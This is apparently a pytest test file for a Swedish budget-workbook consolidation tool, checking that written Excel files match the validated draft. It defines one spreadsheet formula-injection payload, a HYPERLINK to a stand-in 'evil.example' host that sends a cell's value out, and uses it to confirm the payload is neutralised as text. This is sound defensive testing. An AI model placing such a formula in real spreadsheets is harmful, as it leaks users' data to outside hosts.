"""The nämnd workbook writer: the draft Book it validates is the written file's Book.

Consolidation validates the nämnd workbook once, on the draft read from the in-memory layout
(namnd_writer.DraftSource), and stores those findings as the file's: these tests read the
written file back and prove the two agree, value for value and finding for finding.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from pathlib import Path

import pytest

from budgetbook.config import CONFIG_NAME, load_config
from budgetbook.consolidate import consolidate, namnd_context
from budgetbook.engine import validate
from budgetbook.excel import namnd_writer as writer
from budgetbook.excel import read_workbook
from budgetbook.excel.intake import examine_batch
from budgetbook.excel.xlsx_out import Computed, Styled
from budgetbook.excel_refs import cell_pos, cell_ref
from budgetbook.period import Period

from .helpers import convert, lo_profile, soffice
from .test_consolidate import BOU, CONFIG, MYN, VUX, full_inbox, office, write_unit  # noqa: F401

PERIOD = Period(2022, 8)


def _cells(book) -> dict:
    """Every section cell as a reader sees it (``filled`` aside: the draft has no cached values)."""
    out: dict = {("header", k): (c.ref, c.value, c.error, c.problem) for k, c in book.header.fields.items()}
    for key, sec in book.sections.items():
        for row in sec.rows:
            for col, c in row.cells.items():
                out[(key, row.position, col)] = (sec.sheet, c.ref, c.value, c.formula, c.error, c.problem)
    return out


def _signature(findings) -> list:
    return [(f.code, f.severity.value, f.location.sheet, f.location.cell, f.message) for f in findings]


def _stored_formulas(nb) -> dict:
    """(sheet, A1) → value of every formula the writer stores: the layout's and the streamed bodies'."""
    stored = dict(nb.cached)
    for sheet, bulk in nb.bulk.items():
        if isinstance(bulk, Styled):
            for r, (_, row) in enumerate(bulk.rows, start=bulk.first):
                stored.update({(sheet, cell_ref(r, j)): v.value for j, v in enumerate(row, start=1)
                               if isinstance(v, Computed)})
    return stored


def _write(tmp: Path, inbox: Path, out: Path, **kw):
    cfg = load_config(tmp / CONFIG_NAME)
    files = sorted(inbox.iterdir())
    units = examine_batch([(str(f), f.name) for f in files], PERIOD, cfg.settings,
                          tuple(v.namn for v in cfg.verksamheter))
    result = consolidate(cfg, PERIOD, units, **kw)
    nb = writer.section_workbook(result, out.name)
    findings = validate(nb.draft, namnd_context(cfg, PERIOD))
    writer.add_report_sheets(nb, result, findings, writer.RunInfo(inbox=str(inbox), output=str(out),
                                                                  started=dt.datetime(2022, 9, 10, 8, 0)))
    writer.write(nb, out)
    return cfg, nb, findings


@pytest.mark.parametrize("belopp_i", ["tkr", "mnkr"])
def test_the_written_file_reads_back_as_the_draft_with_the_same_findings(office, belopp_i):
    tmp, inbox = office
    (tmp / CONFIG_NAME).write_text(CONFIG.replace('belopp_i = "tkr"', f'belopp_i = "{belopp_i}"'),
                                   encoding="utf-8")
    full_inbox(inbox)
    # A unit in mnkr (one decimal), and one with a positive kostnad: the nämnd gets a SIGN finding.
    write_unit(inbox / "1001.xlsx", "1001", header={"belopp_i": "mnkr"},
               rows=[(MYN, Decimal("0.1"), Decimal("-3.1"), Decimal("0.1"), Decimal("-3.1"), Decimal("-4.5"),
                      Decimal("-4.4"))])
    write_unit(inbox / "1003.xlsx", "1003", rows=[(VUX, 150, 9150, 150, -3150, -4500, -4480)])
    out = tmp / "namnd.xlsx"
    cfg, nb, findings = _write(tmp, inbox, out, include_failing=True)
    assert findings, "the case must give the nämnd workbook findings to compare"

    written = read_workbook(out, file_label=out.name)
    assert _cells(written) == _cells(nb.draft)
    assert _signature(validate(written, namnd_context(cfg, PERIOD))) == _signature(findings)
    # every computed cell of the file carries its value; the draft computed the same ones
    formulas = {(s.sheet, c.ref) for s in written.sections.values() for r in s.rows
                for c in r.cells.values() if c.formula}
    assert formulas and formulas <= set(_stored_formulas(nb))
    assert not [c for s in written.sections.values() for r in s.rows for c in r.cells.values() if c.filled]


def test_a_write_failing_midway_leaves_the_previous_file_and_no_temporary(office, monkeypatch):
    """The file is streamed into a temporary beside the output: an error while the Spårbarhet
    rows are written leaves the previous output as it was."""
    from budgetbook.excel import xlsx_out

    tmp, inbox = office
    full_inbox(inbox)
    out = tmp / "namnd.xlsx"
    out.write_bytes(b"den tidigare versionen")
    real = xlsx_out._rows_xml

    def failing(*args, **kw):
        for n, part in enumerate(real(*args, **kw)):
            if n:
                raise OSError(28, "No space left on device")
            yield part
    monkeypatch.setattr(xlsx_out, "_rows_xml", lambda *args, **kw: failing(*args, **dict(kw, chunk=10)))
    with pytest.raises(OSError):
        _write(tmp, inbox, out)
    assert out.read_bytes() == b"den tidigare versionen"
    assert [p.name for p in tmp.iterdir() if p.name.endswith(".tmp")] == []


def test_streamed_into_a_file_the_same_bytes_as_in_memory(office, tmp_path):
    from budgetbook.excel import xlsx_out

    tmp, inbox = office
    full_inbox(inbox)
    out = tmp / "namnd.xlsx"
    _, nb, _ = _write(tmp, inbox, out)
    assert xlsx_out.transcribe(nb.wb, nb.cached, nb.bulk) == out.read_bytes()


def test_unit_file_keeps_exactly_the_data_rows_and_their_usable_values(office):
    """unit_file takes the rows in one pass: the same rows as SectionData.data_rows() (no
    totals, no empty rows, a row with only an unusable value kept), the same values."""
    from budgetbook.consolidate import unit_file

    tmp, inbox = office
    write_unit(inbox / "1003.xlsx", "1003", rows=[(VUX, "etthundra", -3150, 150, -3150, -4500, -4480),
                                                  ("", "", "", "", "", "", ""),
                                                  ("", "tio", "", "", "", "", ""),
                                                  (MYN, 0, -1500, 0, -1500, -2250, -2250)])
    book = read_workbook(inbox / "1003.xlsx")
    uf = unit_file(book, [], file="1003.xlsx", seal="", mtime=None)
    ekonomi = book.sections["ekonomi"]
    assert [r.position for r in uf.sections["ekonomi"].rows] == [r.position for r in ekonomi.data_rows()] == [0, 2, 3]
    for key, sec in book.sections.items():
        expected = [(r.position, r.label, r.code, {k: (c.value, c.ref) for k, c in r.cells.items()
                                                   if c.value is not None and c.problem is None and c.error is None})
                    for r in sec.data_rows()]
        got = [(r.position, r.label, r.code, {k: tuple(f) for k, f in r.values.items()})
               for r in uf.sections[key].rows]
        assert got == expected, key
    assert "utfall_intakter" not in uf.sections["ekonomi"].rows[0].values  # text in a number cell


# --- streamed table bodies ----------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'


def _sheet_cells(data: bytes, sheets) -> dict:
    """Every cell of ``sheets``: value, type and style as openpyxl reads them, and the value a
    reader that does not recalculate sees (calamine: a formula's cached result)."""
    import io

    import openpyxl
    import python_calamine

    wb = openpyxl.load_workbook(io.BytesIO(data))
    cal = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    out = {}
    for name in sheets:
        ws = wb[name]
        shown = cal.get_sheet_by_name(name).to_python()
        for (r, c), cell in ws._cells.items():
            out[(name, r, c)] = (cell.value, cell.data_type, cell.number_format, repr(cell.font), repr(cell.fill),
                                 repr(cell.border), repr(cell.protection), cell.quotePrefix,
                                 shown[r - 1][c - 1] if r <= len(shown) and c <= len(shown[r - 1]) else None)
        out[(name, "tables")] = sorted((t.displayName, t.ref) for t in ws.tables.values())
        out[(name, "dimension")] = ws.dimensions
    return out


def _laid_out(result, label: str) -> bytes:
    """The section sheets as before streaming: every body row laid out in openpyxl and
    transcribed cell by cell, each formula with the value the draft computed."""
    from budgetbook.excel.template import BookContent, build_workbook
    from budgetbook.excel.xlsx_out import transcribe
    from budgetbook.spec import SPEC

    content = BookContent(header=dict(result.header), rows=result.rows, fixed=result.fixed,
                          verksamheter=[v.namn for v in result.config.verksamheter], consolidated=True)
    wb = build_workbook(SPEC.sections, content)
    draft = writer.read_draft(wb, label)
    cached = {(s.sheet, c.ref): c.value for s in draft.sections.values() for r in s.rows
              for c in r.cells.values() if c.formula}
    return transcribe(wb, cached)


def _streamed_inbox(inbox: Path) -> None:
    full_inbox(inbox)
    write_unit(inbox / "1002.xlsx", "1002", atgardsplan=[dict(atgard="Färre vikarier", verksamhet=VUX, belopp=50,
                                                             kommentar="Vanlig text efter citerad")])
    # text a spreadsheet would take for a formula (quote prefix), a date, decimals, long lists
    write_unit(inbox / "1001.xlsx", "1001", header={"belopp_i": "mnkr"},
               atgardsplan=[dict(atgard=f"@SUM(A{i})", verksamhet=BOU, beslutsdatum=dt.date(2022, 3, 1 + i % 28),
                                 belopp=300 + i, varav_personal=100, utfall=Decimal("12.5"), full_effekt="2023-01",
                                 status="Pågår", kommentar=EVIL) for i in range(40)],
               indikatorer=[dict(indikator=f"-{i} minus", utfall_fg_ar=Decimal("0.8"), utfall=Decimal(i),
                                 mal=Decimal(3)) for i in range(30)])


def test_a_streamed_body_is_the_body_laid_out_in_openpyxl(office):
    """Cell for cell (value, formula, cached result, style, quote prefix) and table for table,
    the streamed section sheets are what laying every row out in openpyxl wrote."""
    from budgetbook.spec import SPEC

    tmp, inbox = office
    _streamed_inbox(inbox)
    out = tmp / "namnd.xlsx"
    _, nb, _ = _write(tmp, inbox, out)
    assert {sheet for sheet, b in nb.bulk.items() if isinstance(b, Styled)} == \
        {s.sheet for s in SPEC.sections if not s.fixed_rows}
    cfg = load_config(tmp / CONFIG_NAME)
    units = examine_batch([(str(f), f.name) for f in sorted(inbox.iterdir())], PERIOD, cfg.settings,
                          tuple(v.namn for v in cfg.verksamheter))
    sheets = [s.sheet for s in SPEC.sections]
    streamed = _sheet_cells(out.read_bytes(), sheets)
    laid_out = _sheet_cells(_laid_out(consolidate(cfg, PERIOD, units), out.name), sheets)
    assert streamed == laid_out
    evil = [k for k, v in streamed.items() if isinstance(v, tuple) and v[0] == EVIL]
    assert len(evil) == 40 and all(streamed[k][1] == "s" and streamed[k][7] for k in evil)
    plain = [k for k, v in streamed.items() if isinstance(v, tuple) and v[0] == "Vanlig text efter citerad"]
    assert len(plain) == 1 and not streamed[plain[0]][7]  # a later row of the same column: no prefix


def test_a_body_value_that_cannot_be_spliced_goes_through_xlsxwriter(office):
    """A text past the splice's length limit is written by XlsxWriter: the whole file then
    is, and reads back as the draft all the same."""
    from budgetbook.excel import xlsx_out

    tmp, inbox = office
    full_inbox(inbox)
    long = "Lång analys. " * 1300  # 16 900 characters
    write_unit(inbox / "1002.xlsx", "1002", kommentarer=[dict(verksamhet=VUX, kommentar=long)])
    out = tmp / "namnd.xlsx"
    _, nb, _ = _write(tmp, inbox, out)
    data = out.read_bytes()
    assert data == xlsx_out.transcribe(nb.wb, nb.cached, nb.bulk, splice=False)
    written = read_workbook(out, file_label=out.name)
    assert _cells(written) == _cells(nb.draft)
    assert "Vuxenenheten: " + long.strip() in [r.cells["kommentar"].value for r in written.sections["kommentarer"].rows]


@pytest.mark.skipif(soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_recalculates_the_values_the_streamed_formulas_carry(office, tmp_path):
    """Every formula of the section sheets, recalculated by LibreOffice, shows the value
    budgetbook stored with it; text like =HYPERLINK(...) stays text there too."""
    import shutil

    import python_calamine

    from budgetbook.spec import SPEC

    tmp, inbox = office
    _streamed_inbox(inbox)
    out = tmp / "namnd.xlsx"
    _, nb, _ = _write(tmp, inbox, out)
    copy = tmp_path / "lo-in" / "namnd.xlsx"
    copy.parent.mkdir()
    shutil.copy(out, copy)
    res = convert(copy, "xlsx", tmp_path / "lo", lo_profile(tmp_path / "prof"))
    assert res.returncode == 0, res.stderr
    stored = _stored_formulas(nb)
    ours = python_calamine.CalamineWorkbook.from_path(str(out))
    theirs = python_calamine.CalamineWorkbook.from_path(str(tmp_path / "lo" / "namnd.xlsx"))
    compared = 0
    for sec in SPEC.sections:
        a, b = ours.get_sheet_by_name(sec.sheet).to_python(), theirs.get_sheet_by_name(sec.sheet).to_python()
        for (sheet, ref), value in stored.items():
            if sheet != sec.sheet:
                continue
            r, c = cell_pos(ref)
            mine, lo = _at(a, r, c), _at(b, r, c)
            assert (mine == "" and lo == "") or mine == pytest.approx(lo, abs=1e-9), (sheet, ref, value, mine, lo)
            assert mine == ("" if value is None else float(value)), (sheet, ref)
            compared += 1
        assert _rounded(a) == _rounded([[_at(b, r, c) for c in range(1, len(a[0]) + 1)]
                                        for r in range(1, len(a) + 1)]), sec.sheet
    assert compared > 100 and compared == sum(sheet in {s.sheet for s in SPEC.sections} for sheet, _ in stored)
    texts = [v for row in theirs.get_sheet_by_name("Åtgärdsplan").to_python() for v in row if "HYPERLINK" in str(v)]
    assert texts and all(t.endswith(EVIL) for t in texts)


def _rounded(rows: list[list]) -> list[list]:
    """Numbers to 12 significant digits (LibreOffice saves 15, XlsxWriter 17)."""
    return [[float(f"{v:.12g}") if isinstance(v, float) else v for v in row] for row in rows]


def _at(rows: list[list], r: int, c: int):
    """A cell of calamine's rows ('' past their end: LibreOffice leaves trailing blanks out)."""
    return rows[r - 1][c - 1] if r <= len(rows) and c <= len(rows[r - 1]) else ""


# --- review: the draft is what the file holds ---------------------------------------------

def test_a_value_with_seventeen_digits_reads_back_as_the_draft(office):
    """XlsxWriter (and the splice, as it) writes a number with 16 significant digits: a sum
    such as 14 302 058 + 0,167127721 (+ 2) = 14 302 060,167127721 reads back from the file
    as 14 302 060,16712772. The draft must read what the file holds, not the exact sum."""
    from .test_consolidate import months

    tmp, inbox = office
    full_inbox(inbox)
    for kod, jan in (("1002", Decimal("14302058")), ("1001", Decimal("0.167127721"))):
        write_unit(inbox / f"{kod}.xlsx", kod, statistik=[dict(nyckeltal="Antal placerade barn", ar=2022,
                                                              summerbar="Ja", **dict(months(2), jan=jan))])
    out = tmp / "namnd.xlsx"
    _, nb, findings = _write(tmp, inbox, out)
    written = read_workbook(out, file_label=out.name)
    [jan] = [r.cells["jan"].value for r in written.sections["statistik"].rows if r.label == "Antal placerade barn"]
    assert jan == Decimal("14302060.16712772")
    assert _cells(written) == _cells(nb.draft)


def test_a_text_longer_than_a_cell_holds_reads_back_as_the_draft(office):
    """A cell holds 32 767 characters and XlsxWriter cuts a longer text there: a unit's
    kommentar of that length with the unit's name before it is cut in the nämnd file, and
    the draft (whose findings the file gets) must say what the file holds."""
    tmp, inbox = office
    full_inbox(inbox)
    long = ("Lång analys. " * 2600)[:32767]
    write_unit(inbox / "1002.xlsx", "1002", kommentarer=[dict(verksamhet=VUX, kommentar=long)])
    out = tmp / "namnd.xlsx"
    _, nb, findings = _write(tmp, inbox, out)
    written = read_workbook(out, file_label=out.name)
    texts = [r.cells["kommentar"].value for r in written.sections["kommentarer"].rows
             if str(r.cells["kommentar"].value).startswith("Vuxenenheten: Lång")]
    assert [len(t) for t in texts] == [32767]
    assert _cells(written) == _cells(nb.draft)


@pytest.mark.parametrize("extra", [0, 1])
def test_a_text_cut_to_fit_a_cell_is_said_on_the_unit(office, extra):
    """The unit's name before a kommentar of 32 767 − len("Vuxenenheten: ") characters just
    fits; one character more and the end is cut, which the unit's KONS-014 says (where, how
    long, what a cell holds), so the cut is never silent."""
    tmp, inbox = office
    full_inbox(inbox)
    long = ("Lång analys. " * 2600)[:32767 - len("Vuxenenheten: ") + extra]
    write_unit(inbox / "1002.xlsx", "1002", kommentarer=[dict(verksamhet=VUX, kommentar=long)])
    cfg = load_config(tmp / CONFIG_NAME)
    units = examine_batch([(str(f), f.name) for f in sorted(inbox.iterdir())], PERIOD, cfg.settings,
                          tuple(v.namn for v in cfg.verksamheter))
    result = consolidate(cfg, PERIOD, units)
    [unit] = [u for u in result.units if u.enhet.kod == "1002"]
    cut = [f for f in unit.findings if f.code == "KONS-014"]
    [text] = [r["kommentar"] for r in result.rows["kommentarer"] if r["kommentar"].startswith("Vuxenenheten: Lång")]
    assert len(text) == 32767 and text == ("Vuxenenheten: " + long)[:32767]
    if not extra:
        assert cut == []
        return
    [finding] = cut
    assert (finding.location.sheet, finding.location.column) == ("Kommentarer", "kommentar")
    assert finding.location.cell and finding.location.file == "1002.xlsx"
    assert "32\u00a0768 tecken" in finding.message and "32\u00a0767" in finding.message
    assert finding.severity.value == "varning" and unit.findings == sorted(unit.findings, key=lambda f: f.sort_key)
